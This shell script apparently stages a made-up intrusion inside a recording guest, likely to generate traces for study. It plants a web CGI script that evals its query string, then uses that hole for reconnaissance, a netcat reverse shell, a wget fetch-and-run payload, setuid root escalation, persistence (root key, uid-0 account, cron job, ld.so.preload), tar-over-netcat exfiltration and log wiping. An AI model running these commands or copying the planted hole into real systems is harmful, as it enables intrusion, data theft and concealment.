#!/bin/sh
# SPDX-License-Identifier: Apache-2.0
# An invented intrusion, played inside the recording guest: a web page with a hole, a shell, and what follows.
# Everything happens between addresses of the guest itself; names and secrets are made up.
set -u

WEB=192.0.2.10
FOE=192.0.2.20

# The machine's normal life: a small shop, its keeper and its night job.
mkdir -p /var/www/cgi-bin /var/log /var/lib/shop /home/anna /root/.ssh /etc/cron.d /srv/foe /opt/shop
printf 'root:x:0:0:root:/root:/bin/sh\nwww:x:33:33:www:/var/www:/bin/sh\nanna:x:1000:1000:Anna:/home/anna:/bin/sh\n' >/etc/passwd
printf 'root:x:0:\nwww:x:33:\nanna:x:1000:\n' >/etc/group
printf 'root:$6$made$up:20000:0:99999:7:::\nanna:$6$made$up:20000:0:99999:7:::\n' >/etc/shadow
chmod 600 /etc/shadow
printf 'made-up private key\n' >/root/.ssh/id_ed25519
printf 'id,name\n1,Berta\n2,Carl\n' >/var/lib/shop/customers.csv
printf '%s shop started\n' "$(date)" >/var/log/shop.log
cat >/var/www/cgi-bin/status.cgi <<'CGI'
#!/bin/sh
echo 'Content-Type: text/plain'
echo
# The hole: whatever the query says is run.
eval "$(httpd -d "$QUERY_STRING")" 2>&1
CGI
chmod 755 /var/www/cgi-bin/status.cgi
printf '<h1>Shop</h1>\n' >/var/www/index.html
chown -R www:www /var/www /var/lib/shop
printf 'made-up mining program\n' >/srv/foe/worker
cp /bin/busybox /srv/foe/kworkerd

# ask QUERY: what the foe's browser sends to the page.
ask() {
  wget -q -O - "http://$WEB:8080/cgi-bin/status.cgi?$1"
}

su www -s /bin/sh -c "httpd -p $WEB:8080 -h /var/www"
httpd -p $FOE:8000 -h /srv/foe
sleep 1

# Normal life goes on: visitors, the keeper looking at her log, the night job.
for i in 1 2 3; do wget -q -O /dev/null http://$WEB:8080/index.html; done
su anna -s /bin/sh -c 'ls -l /home/anna; tail -n 1 /var/log/shop.log'
gzip -c /var/lib/shop/customers.csv >/var/lib/shop/customers.csv.gz

# A look around through the hole.
ask 'id;uname%20-a;cat%20/etc/passwd;ps'
ask 'find%20/%20-xdev%20-perm%20-4000'
ask 'cat%20/etc/shadow'

# A shell that calls home.
nc -l -p 4444 -e /bin/cat >/dev/null 2>&1 &
sleep 1
ask "nc%20$FOE%204444%20-e%20/bin/sh%20%26%20sleep%202;kill%20%24!"

# Tools are fetched and run from where anyone may write.
ask "wget%20-q%20-O%20/tmp/.cache%20http://$FOE:8000/kworkerd;chmod%20755%20/tmp/.cache;/tmp/.cache%20id"

# A forgotten set-user-id helper makes the web server's user root.
ask '/opt/shop/backup%20id'
ask '/opt/shop/backup%20cat%20/etc/shadow'
ask '/opt/shop/backup%20cat%20/root/.ssh/id_ed25519'

# To come back: a key, an account, a job, a library for every program.
ask "/opt/shop/backup%20sh%20-c%20'echo%20made-up%20key%20>>/root/.ssh/authorized_keys'"
ask "/opt/shop/backup%20sh%20-c%20'echo%20sys:x:0:0::/:/bin/sh%20>>/etc/passwd'"
ask "/opt/shop/backup%20sh%20-c%20'echo%20*%20*%20*%20*%20*%20root%20/tmp/.cache%20>/etc/cron.d/sysupdate'"
ask "/opt/shop/backup%20sh%20-c%20'echo%20/tmp/.lib.so%20>/etc/ld.so.preload'"

# What is worth taking leaves the machine.
nc -l -p 4445 >/dev/null 2>&1 &
sleep 1
ask "/opt/shop/backup%20sh%20-c%20'tar%20cz%20/var/lib/shop%20/etc/shadow|nc%20$FOE%204445'"

# The traces are wiped.
ask "/opt/shop/backup%20sh%20-c%20'rm%20-f%20/var/log/shop.log;rm%20-f%20/etc/ld.so.preload'"
ask "/opt/shop/backup%20sh%20-c%20'ln%20-sf%20/dev/null%20/root/.ash_history'"
ask "/opt/shop/backup%20sh%20-c%20'insmod%20/tmp/.hide.ko;mount%20-t%20tmpfs%20hide%20/mnt'"
sleep 1
